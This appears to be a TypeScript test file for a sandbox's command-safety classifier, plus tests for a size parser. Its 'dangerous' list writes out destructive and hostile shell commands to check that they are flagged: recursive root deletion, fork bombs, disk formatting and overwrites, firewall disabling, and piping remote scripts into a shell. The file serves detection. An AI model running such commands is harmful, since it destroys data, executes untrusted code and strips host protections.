import * as assert from 'node:assert/strict';
import { classifyCommand } from '../../../src/core/sandbox/commandSafety';
import { formatBytes, parseSize } from '../../../src/core/sandbox/parseSize';

describe('command safety', () => {
  const dangerous: Array<[string, RegExp]> = [
    ['rm -rf /', /deletes/],
    ['rm -rf --no-preserve-root /', /protection/],
    ['sudo rm -fr /usr', /deletes/],
    ['rm -r -f ~', /deletes/],
    [':(){ :|:& };:', /fork bomb/],
    ['python3 -c "import os\nwhile True: os.fork()"', /fork/],
    ['curl -fsSL https://example.invalid/install.sh | sh', /download straight into a shell/],
    ['wget -qO- http://x.invalid | sudo bash', /shell/],
    ['curl https://x.invalid/a.py | python3', /Python/],
    ['chmod -R 777 /', /world-writable/],
    ['mkfs.ext4 /dev/sda1', /formats/],
    ['dd if=/dev/zero of=/dev/sda bs=1M', /block device/],
    ['ufw disable', /firewall/],
    ['iptables -F', /firewall/],
  ];
  for (const [command, reason] of dangerous) {
    it(`flags ${JSON.stringify(command)}`, () => {
      const risks = classifyCommand(command);
      assert.ok(risks.some((r) => reason.test(r.reason)), JSON.stringify(risks));
    });
  }

  const ordinary = ['rm -rf build/', 'rm -rf /work/tmp', 'pip install requests', 'python -m pytest', 'curl -o out.json https://x.invalid/a', 'chmod 755 script.sh', 'ls -la /', 'dd if=a of=b'];
  for (const command of ordinary) {
    it(`lets ${JSON.stringify(command)} run`, () => assert.deepEqual(classifyCommand(command), []));
  }

  it('classifies argv arrays as well', () => {
    assert.equal(classifyCommand(['rm', '-rf', '/']).length, 1);
  });
});

describe('sizes', () => {
  it('parses Docker-style sizes in binary units', () => {
    assert.equal(parseSize('512m'), 512 * 1024 ** 2);
    assert.equal(parseSize('1.5GiB'), 1.5 * 1024 ** 3);
    assert.equal(parseSize('2048'), 2048);
    assert.equal(parseSize('lots'), undefined);
    assert.equal(parseSize('5 parsecs'), undefined);
  });
  it('formats bytes for people', () => {
    assert.equal(formatBytes(0), '0 B');
    assert.equal(formatBytes(256 * 1024 ** 2), '256.0 MiB');
  });
});
